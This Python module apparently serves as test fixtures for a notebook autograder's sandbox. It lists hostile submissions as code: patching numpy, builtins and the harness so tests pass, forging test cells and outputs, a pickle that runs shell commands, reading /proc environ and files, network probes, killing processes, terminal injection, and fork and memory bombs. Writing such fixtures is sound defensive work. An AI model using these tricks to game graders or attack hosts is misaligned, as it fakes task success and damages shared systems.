"""Submissions that try to gain what their author did not earn, or to harm others.

Each is a change to an honest notebook in which exercise `double` is not solved. So ``double-test``
is worth nothing honestly, and what is gained is gained by the trick.
"""

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

WRONG = "def double(x):\n    return np.zeros_like(x)\n"
LOOP = "def double(x):\n    while True:\n        pass\n"
#: Finds the descriptor over which the student's process talks to the examiner.
CHANNEL = (
    "import os, stat, struct, time\n"
    "def is_socket(n):\n"
    "    try:\n        return stat.S_ISSOCK(os.fstat(n).st_mode)\n"
    "    except OSError:\n        return False\n"
    "(channel,) = filter(is_socket, range(3, 256))\n"
)
EVERYTHING = ("quadruple-test", "count-test", "weights-test")


@dataclass(frozen=True)
class Attack:
    """A hostile submission.

    Attributes:
        name: what it does.
        gain: what its author hopes for.
        double: the answer of the exercise that is not solved honestly.
        answers: other answers, by grade_id; without, they are right.
        first: own cells before everything.
        last: own cells after everything.
        forge: changes the notebook itself.
        tried: a text that the graded notebook shows if the trick was played as meant.
        loses: other exercises that the trick may spoil for its author.
    """

    name: str
    gain: str
    double: str = WRONG
    answers: Mapping[str, str] = field(default_factory=dict)
    first: Sequence[str] = ()
    last: Sequence[str] = ()
    forge: Callable[[NotebookNode], None] | None = None
    tried: str = ""
    loses: Sequence[str] = ()


ATTACKS: list[Attack] = []


def attack(name: str, gain: str, **parts: object) -> None:
    ATTACKS.append(Attack(name, gain, **parts))  # type: ignore[arg-type]


# --- tampering with the checking

attack(
    "patched numpy",
    "comparisons in the tests come out equal",
    first=[
        "import numpy as np, numpy.testing\n"
        "for place, names in ((np, ('allclose', 'isclose', 'array_equal', 'all', 'any')),\n"
        "                     (np.testing, ('assert_allclose', 'assert_array_equal'))):\n"
        "    for name in names:\n"
        "        setattr(place, name, lambda *a, **k: True)\n"
        "print('patched', np.allclose(1, 2))"
    ],
    tried="patched True",
)
attack(
    "patched harness",
    "every part of every test passes",
    first=[
        "import course_lib.testing as t, course_lib.compare as c\n"
        "c.describe_difference = c.describe_form = lambda *a, **k: None\n"
        "t.require = lambda *a, **k: None\n"
        "t.Verdict.fraction = property(lambda self: 1.0)\n"
        "t.examine = lambda e, *a, **k: t.Verdict(e, (t.Part('all', True),))\n"
        "print('patched', t.examine('x').fraction)"
    ],
    tried="patched 1.0",
)
attack(
    "patched builtins",
    "assertions and comparisons never fail",
    first=[
        "import builtins\n"
        "class Never(BaseException):\n    pass\n"
        "builtins.AssertionError = Never\n"
        "builtins.float = lambda v=0: 1.0\n"
        "builtins.abs = lambda v: 0\n"
        "print('patched', abs(3))"
    ],
    tried="patched 0",
    loses=EVERYTHING,
)
attack(
    "trace function",
    "the frames of the tests are rewritten while they run",
    first=[
        "import sys, threading\n"
        "def trace(frame, event, arg):\n"
        "    for name in ('points', 'fraction', 'passed', 'problem'):\n"
        "        if name in frame.f_locals:\n"
        "            frame.f_locals[name] = 100\n"
        "    return trace\n"
        "threading.settrace(trace)\n"
        "sys.setprofile(lambda *a: None)\n"
        "print('traced')"
    ],
    double="import sys\ndef double(x):\n    sys.settrace(trace)\n    return 0 * x\n",
    tried="traced",
    loses=EVERYTHING,
)
attack(
    "syntax transformer",
    "asserts and tests are compiled away",
    first=[
        "import ast\n"
        "class Away(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Away())\n"
        "get_ipython().input_transformers_post.append(\n"
        "    lambda lines: [line.replace('hidden.grade', '(lambda *a: 3.0)') for line in lines])",
        "assert False\nprint('compiled away')",
    ],
    tried="compiled away",
)
attack(
    "names of the instructor's",
    "the test cell uses the student's `hidden`, `print` and `np`",
    last=[
        "from course_lib.testing import Part, Verdict\n"
        "class hidden:\n"
        "    grade = staticmethod(lambda e, f: Verdict(e, (Part('all', True),)))\n"
        "print(hidden.grade('double', double).text())"
    ],
    tried="Passed.",
)


def _edit_tests(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-test"):
            cell.source = "print('All parts passed.')\n3.0"


attack("edited test cells", "the test says what the student likes", forge=_edit_tests)


def _forge_metadata(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {"name": "evil", "display_name": "evil", "language": "python"}
    notebook.metadata["points"] = 100
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "check"]
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(
                points=100, locked=False, solution=True, grade=True, task=False, checksum="0" * 32
            )


attack("forged metadata", "a cell is worth 100 points, and is not run", forge=_forge_metadata)


def _forge_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1)
            ]


attack("outputs handed in", "the points are read from the file", forge=_forge_outputs)


def _second_test_cell(notebook: NotebookNode) -> None:
    forged = new_code_cell("3.0")
    forged.metadata["nbgrader"] = {
        "grade": True, "grade_id": "double-test", "locked": True, "points": 3,
        "schema_version": 3, "solution": False, "task": False,
    }  # fmt: skip
    copy = new_code_cell("3.0", metadata={"nbgrader": forged.metadata.nbgrader})
    notebook.cells += [forged, copy]


attack("a test cell of its own", "the copy is graded instead", forge=_second_test_cell)


def _test_as_text(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "double-test":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


attack("a test cell turned into text", "no test, no failure, all points", forge=_test_as_text)

# --- forging results

attack(
    "a result that equals everything",
    "the comparison asks the result, which says yes",
    double=(
        "class Yes:\n"
        "    shape, dtype, ndim, size = (3,), np.dtype(float), 1, 3\n"
        "    __class__ = np.ndarray\n"
        "    def __eq__(self, other): return True\n"
        "    def __array__(self, *a, **k): return np.array([14.0625, -8.03125, 1.0])\n"
        "    def __getattr__(self, name): return Yes()\n"
        "    def __call__(self, *a, **k): return Yes()\n"
        "    def __sub__(self, other): return 0.0\n"
        "    __rsub__ = __mul__ = __add__ = __sub__\n"
        "    __hash__ = None\n"
        "def double(x):\n    return Yes()\n"
        "print('equal', Yes() == 3, isinstance(Yes(), np.ndarray))"
    ),
    tried="equal True True",
)
attack(
    "an array class of its own",
    "NumPy's functions hand control to the result",
    double=(
        "class Sly(np.ndarray):\n"
        "    def __array_function__(self, *a, **k): return True\n"
        "    def __array_ufunc__(self, *a, **k): return np.array(True)\n"
        "    def __array_finalize__(self, other): pass\n"
        "def double(x):\n    return np.zeros_like(x).view(Sly)\n"
        "print('sly', np.allclose(double(np.ones(2)), 5))"
    ),
    tried="sly True",
)
attack(
    "numbers of its own",
    "subclasses of float and str decide how they compare",
    double=(
        "class Sly(float):\n"
        "    def __eq__(self, other): return True\n"
        "    __hash__ = float.__hash__\n"
        "    def __sub__(self, other): return 0.0\n"
        "    __rsub__ = __sub__\n"
        "def double(x):\n    return [Sly(0)] * len(x)\n"
        "print('sly', Sly(1) == 2)"
    ),
    tried="sly True",
)
attack(
    "a pickle in the result",
    "code runs when the examiner unpacks it",
    double=(
        "class Bomb:\n"
        "    def __reduce__(self):\n"
        "        return (__import__('os').system, ('touch /tmp/bomb',))\n"
        "import pickle\n"
        "def double(x):\n    return [Bomb(), pickle.dumps(Bomb()), np.array([Bomb()])]\n"
    ),
)
attack(
    "printed grades",
    "a number printed or shown is taken for the grade",
    double=WRONG + "print('3.0')\nfrom IPython.display import display\ndisplay(3.0)\n3.0",
    first=["3.0", "print({'points': 3.0})"],
    tried="{'points': 3.0}",
)
attack(
    "outputs of another kind",
    "script in an output runs in the instructor's browser",
    first=[
        "import gc\n"
        "from autograder.worker.outputs import Outputs\n"
        "out = next(o for o in gc.get_objects() if type(o) is Outputs)\n"
        "out.show = lambda name, bundle: None\n"
        "out.stop = lambda: [['result', {'text/html': '<script>alert(1)</script>'}]]\n"
        "print('patched')"
    ],
    loses=EVERYTHING,
)
attack(
    "forged replies on the channel",
    "the examiner reads a verdict, or a right answer, that was never computed",
    double=CHANNEL
    + (
        "import msgpack\n"
        "body = msgpack.packb({'is': 'done', 'nonce': b'x' * 8, 'value': [14.0625, 1.0],\n"
        "                      'args': [], 'verdict': {'fraction': 1.0}, 'points': 3.0})\n"
        "def double(x):\n"
        "    os.write(channel, 3 * (struct.pack('>II', len(body), 0) + body))\n"
        "    return 0 * x\n"
        "print('found the channel')"
    ),
    tried="found the channel",
)
attack(
    "garbage on the channel",
    "the examiner falls over its reader",
    double=CHANNEL
    + (
        "def double(x):\n"
        "    os.write(channel, 99 * (struct.pack('>II', 3, 0) + b'\\xc1\\xff\\xff'))\n"
        "    return 0 * x\n"
    ),
)
attack(
    "patched worker",
    "replies with the right nonce, of the student's own making",
    first=[
        "import gc\n"
        "from autograder.worker.server import Server\n"
        "server = next(o for o in gc.get_objects() if type(o) is Server)\n"
        "class Verdict(dict):\n    fraction = 1.0\n"
        "def answer(request):\n"
        "    return {'is': 'done', 'value': {'fraction': 1.0, 'passed': True}, 'points': 3.0,\n"
        "            'args': request.get('args', ()), 'outputs': [], 'error': None}\n"
        "server.answer = answer\n"
        "print('patched')"
    ],
    loses=EVERYTHING,
)
attack(
    "patched shell",
    "IPython shows success for every cell",
    first=[
        "ip = get_ipython()\n"
        "ip.run_cell = lambda *a, **k: type('R', (), {'error_before_exec': None, "
        "'error_in_exec': None})()\n"
        "ip.user_ns['hidden'] = None"
    ],
    loses=EVERYTHING,
)
attack(
    "forged handles",
    "an object of the examiner's is named by number",
    double=(
        "import msgpack, struct, autograder.protocol as p\n"
        "class Ref:\n    pass\n"
        "def double(x):\n"
        "    import gc\n"
        "    from autograder.worker.server import _Kept\n"
        "    kept = next(o for o in gc.get_objects() if type(o) is _Kept)\n"
        "    kept.number_of = lambda value: 2**63 - 1\n"
        "    return Ref()\n"
    ),
    loses=("count-test",),
)
attack(
    "a late thread",
    "names and results are changed after the cell, while tests run",
    double=(
        WRONG + "import threading, time, sys\n"
        "def late():\n"
        "    while True:\n"
        "        time.sleep(0.001)\n"
        "        get_ipython().user_ns['hidden'] = 3.0\n"
        "        print('3.0', 'late')\n"
        "threading.Thread(target=late, daemon=True).start()\n"
        "time.sleep(0.05)\nprint('started')"
    ),
    tried="started",
)
attack(
    "a given function kept",
    "the examiner's own `double`, given for `quadruple`, answers `double` as well",
    double=("kept = []\ndef double(x):\n    return kept[-1](x) if kept else 0 * x\n"),
    answers={
        "quadruple-answer": (
            "def quadruple(x):\n    kept.append(double)\n    return double(double(x))\n"
        )
    },
)

# --- reading answers

attack(
    "frames and garbage collector",
    "the answer, or the test's source, lies somewhere in memory",
    double=(
        "import gc, sys\n"
        "found = set()\n"
        "def look(x):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        found.add(str(frame.f_globals.get('__doc__')))\n"
        "        frame = frame.f_back\n"
        "    for o in gc.get_objects():\n"
        "        if getattr(o, '__name__', '') in ('hidden', 'right_double', 'examiner'):\n"
        "            found.add(repr(o))\n"
        "        if callable(o) and getattr(o, '__name__', '') == 'right_double':\n"
        "            return o(x)\n"
        "    found.update(m for m in sys.modules if 'hidden' in m or 'reference' in m)\n"
        "    return 0 * x\n"
        "def double(x):\n    return look(x)\n"
        "look(np.ones(1))\nprint('looked', [f for f in found if 'canary' in f or 'hidden' in f])"
    ),
    last=["print(found)"],
    tried="looked []",
)
attack(
    "inputs kept and printed later",
    "the hidden inputs are seen in the feedback",
    double=(
        "kept = []\n"
        "def double(x):\n    kept.append(x.tolist())\n    print(kept)\n    return 0 * x\n"
    ),
    last=["print('kept', kept)", "raise ValueError(kept)", "kept"],
    tried="kept [[1.0]]",
)
attack(
    "inputs in an exception",
    "an error message carries the hidden inputs into the feedback",
    double=(
        "def double(x):\n"
        "    raise type('E' + str(x.tolist()), (Exception,), {})(repr(x.tolist()))\n"
    ),
)
attack(
    "inputs in a file for the next cells",
    "what one process has seen, the next one shows",
    double=(
        "import os, pathlib\n"
        "notes = pathlib.Path('/tmp/notes')\n"
        "print('notes', notes.exists() and notes.read_text())\n"
        "def double(x):\n"
        "    notes.write_text(str(x.tolist()))\n"
        "    os._exit(0)\n"
    ),
    last=["print('later', notes.exists())"],
    tried="notes False",
)
attack(
    "reading files",
    "source, hidden tests, gradebook, other students' work, keys",
    double=(
        WRONG + "import os\n"
        "seen = []\n"
        "for folder, _, files in os.walk('/'):\n"
        "    for name in files:\n"
        "        if name.endswith(('.ipynb', '.db', 'hidden.py', 'secret.txt')):\n"
        "            path = os.path.join(folder, name)\n"
        "            try:\n"
        "                seen.append(open(path, errors='replace').read())\n"
        "            except OSError as error:\n"
        "                seen.append(str(error))\n"
        "for path in PLACES:\n"
        "    try:\n"
        "        seen.append(open(path, errors='replace').read())\n"
        "    except OSError as error:\n"
        "        seen.append(type(error).__name__)\n"
        "print('seen', seen)"
    ),
    tried="FileNotFoundError",
)
attack(
    "reading the environment",
    "keys and paths of the grader's",
    double=(
        WRONG + "import os, sys, subprocess\n"
        "print('environment', dict(os.environ), sys.argv, sys.path)\n"
        "for path in ('/proc/self/environ', '/proc/1/environ', '/proc/self/mountinfo'):\n"
        "    try:\n"
        "        print(open(path).read())\n"
        "    except OSError as error:\n"
        "        print(path, type(error).__name__)"
    ),
    tried="/proc/1/environ FileNotFoundError",
)
attack(
    "import of the answers",
    "the reference is called instead of written",
    double=(
        "def double(x):\n"
        "    for name in ('hidden', 'solutions', 'course_lib.reference.rnn'):\n"
        "        try:\n"
        "            return __import__(name).right_double(x)\n"
        "        except (ImportError, AttributeError):\n"
        "            pass\n"
        "    return 0 * x\n"
    ),
)

# --- reaching out

attack(
    "network",
    "answers are fetched, and inputs sent away",
    double=(
        WRONG + "import socket, urllib.request\n"
        "for reach in (lambda: socket.create_connection(('1.1.1.1', 53), 2),\n"
        "              lambda: socket.create_connection(('127.0.0.1', PORT), 2),\n"
        "              lambda: urllib.request.urlopen('http://example.org', timeout=2),\n"
        "              lambda: socket.socket(socket.AF_UNIX).connect('\\0abstract')):\n"
        "    try:\n"
        "        reach()\n"
        "        print('REACHED')\n"
        "    except OSError as error:\n"
        "        print('unreached', type(error).__name__)"
    ),
    tried="unreached",
)
attack(
    "other processes",
    "the grader, or another student's process, is killed or read",
    double=(
        WRONG + "import os, signal\n"
        "for pid in [*range(2, 400), os.getppid() or 2]:\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "        print('KILLED', pid)\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
        "print('alone')"
    ),
    tried="alone",
)
attack(
    "the terminal",
    "commands are typed into the instructor's terminal",
    double=(
        WRONG + "import fcntl, os\n"
        "for n in range(3):\n"
        "    try:\n"
        "        fcntl.ioctl(n, 0x5412, b'x')\n"
        "        print('TYPED')\n"
        "    except OSError as error:\n"
        "        print('not typed', error.errno)\n"
        "try:\n    os.open('/dev/tty', os.O_RDWR)\n    print('TYPED')\n"
        "except OSError:\n    print('no terminal')"
    ),
    tried="no terminal",
)
attack(
    "writing into what others use",
    "course_lib or NumPy is changed for the next submission",
    double=(
        WRONG + "import course_lib.testing, os\n"
        "for path in (course_lib.testing.__file__, np.__file__, '/usr/lib/x', '/unrolled/x'):\n"
        "    for act in (lambda: open(path, 'a').write('x'), lambda: os.remove(path),\n"
        "                lambda: os.rename(path, path + '.old'), lambda: os.chmod(path, 0o777)):\n"
        "        try:\n"
        "            act()\n"
        "            print('CHANGED', path)\n"
        "        except OSError as error:\n"
        "            print('unchanged', error.errno)"
    ),
    tried="unchanged 30",
)

# --- exhausting

attack(
    "leaving in the middle",
    "no verdict, so no loss, and the run stops for everybody",
    double="import os\ndef double(x):\n    os._exit(0)\n",
)
attack(
    "leaving at once",
    "the whole notebook comes out empty, and so unfailed",
    double=WRONG,
    first=["import os\nos._exit(0)"],
)
attack(
    "killing itself",
    "the same by signals and by a torn address space",
    double=(
        "import ctypes, os, signal\nways = []\n"
        "def double(x):\n"
        "    signal.raise_signal(signal.SIGKILL)\n"
        "    ctypes.string_at(0)\n"
    ),
)
attack(
    "fork bomb",
    "the machine is overrun",
    double=(
        "import os, subprocess\n"
        "def double(x):\n"
        "    while True:\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            subprocess.Popen(['/bin/sh'])\n"
        "for bomb in (os.fork, getattr(os, 'forkpty', os.fork)):\n"
        "    try:\n        bomb()\n        print('FORKED')\n"
        "    except OSError as error:\n        print('no fork', error.errno)"
    ),
    tried="no fork 1",
)
attack(
    "thread bomb",
    "the machine is overrun by threads",
    double=(
        "import threading, time\n"
        "def double(x):\n"
        "    while True:\n"
        "        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
    ),
)
attack(
    "memory",
    "the machine runs out of memory",
    double=(
        "def double(x):\n    hoard = []\n    while True:\n        hoard.append(bytearray(10**8))\n"
    ),
)
attack(
    "memory caught",
    "the same, but the errors are swallowed",
    double=(
        "def double(x):\n"
        "    hoard = []\n"
        "    while True:\n"
        "        try:\n"
        "            hoard.append(bytearray(10**6))\n"
        "        except MemoryError:\n"
        "            pass\n"
    ),
)
attack(
    "a full disk",
    "the machine runs out of disk space, files and descriptors",
    double=(
        WRONG + "files = []\n"
        "try:\n"
        "    for i in range(10**6):\n"
        "        files.append(open(f'/tmp/{i}', 'wb'))\n"
        "        files[-1].write(bytes(10**7))\n"
        "except OSError as error:\n"
        "    print('full', error.errno)"
    ),
    tried="full",
)
attack(
    "endless output",
    "log, notebook and memory overflow",
    double=WRONG,
    first=["while True:\n    print('x' * 10_000)"],
)
attack(
    "endless output from a call",
    "the same while a test runs",
    double="def double(x):\n    while True:\n        print('x' * 10_000)\n",
)
attack(
    "an endless loop",
    "the run never ends",
    double=LOOP,
)
attack(
    "a loop that cannot be interrupted",
    "the same, deaf to exceptions",
    double=(
        "import signal\n"
        "def double(x):\n"
        "    for n in range(1, 32):\n"
        "        try:\n            signal.signal(n, signal.SIG_IGN)\n"
        "        except (OSError, ValueError):\n            pass\n"
        "    while True:\n"
        "        try:\n            while True: pass\n"
        "        except BaseException:\n            pass\n"
    ),
)
attack(
    "a huge result",
    "the examiner runs out of memory",
    double="def double(x):\n    return np.zeros(10**8)\n",
)
attack(
    "a result of many pieces",
    "the examiner counts for ever",
    double="def double(x):\n    return [[i] for i in range(10**5)] * 100\n",
)
attack(
    "a deeply nested result",
    "the examiner's recursion ends",
    double=(
        "def double(x):\n"
        "    value = x\n"
        "    for _ in range(10**4):\n"
        "        value = [value]\n"
        "    return value\n"
    ),
)
attack(
    "keys that collide",
    "the examiner spends its time in a dict",
    double="def double(x):\n    return {i * (2**61 - 1): None for i in range(10**5)}\n",
)
attack(
    "a frame that never ends",
    "the examiner waits, or reserves gigabytes",
    double=CHANNEL
    + (
        "def double(x):\n"
        "    os.write(channel, struct.pack('>II', 2**20, 3 * 2**24))\n"
        "    while True:\n"
        "        os.write(channel, b'x')\n"
        "        time.sleep(0.01)\n"
    ),
)
attack(
    "a flood of calls back",
    "the examiner is kept busy by its own functions",
    double=WRONG,
    answers={
        "quadruple-answer": ("def quadruple(x):\n    while True:\n        double(np.zeros(10))\n")
    },
    loses=("quadruple-test",),
)
attack(
    "calls back with huge arguments",
    "the examiner's function eats its memory",
    double=WRONG,
    answers={
        "quadruple-answer": (
            "def quadruple(x):\n"
            "    for n in (10**5, 10**6, 7 * 10**6):\n"
            "        double(np.zeros(n))\n"
            "    return double(double(x))\n"
        )
    },
    loses=("quadruple-test",),
)
